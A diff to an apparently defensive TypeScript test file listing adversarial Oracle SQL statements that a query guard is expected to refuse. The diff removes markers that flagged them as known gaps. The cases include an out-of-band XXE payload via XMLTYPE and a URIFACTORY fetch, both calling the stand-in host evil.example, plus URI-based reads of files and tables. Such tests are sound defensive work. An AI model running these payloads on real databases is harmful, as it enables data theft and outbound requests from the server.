@@ -53,34 +53,24 @@ export const ORACLE_CASES: readonly AdversarialCase[] = [
     ORA,
     `SELECT EXTRACTVALUE(xmltype('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/">%x;]>'), '/l') FROM dual`,
     'out-of-band XXE through XMLTYPE (CVE-2014-6577 pattern): a network request from a SELECT',
-    { knownGap: 'ADV-G1' },
   ),
   refuse(
     'ora-net-2',
     ORA,
     "SELECT URIFACTORY.GETURI('http://evil.example/').GETCLOB() FROM dual",
     'URI factory fetches a URL',
-    {
-      knownGap: 'ADV-G1',
-    },
   ),
   refuse(
     'ora-net-3',
     ORA,
     "SELECT XDBURITYPE('/public/secret.txt').GETCLOB() FROM dual",
     'reads the XML DB repository',
-    {
-      knownGap: 'ADV-G1',
-    },
   ),
   refuse(
     'ora-net-4',
     ORA,
     "SELECT DBURITYPE('/HR/EMPLOYEES').GETCLOB() FROM dual",
     'reads tables by URI, past the statement',
-    {
-      knownGap: 'ADV-G1',
-    },
   ),
   refuse('ora-seq-1', ORA, 'SELECT order_seq.NEXTVAL FROM dual', 'advances a sequence'),
   refuse('ora-seq-2', ORA, 'SELECT app.order_seq.nextval FROM dual', 'qualified'),
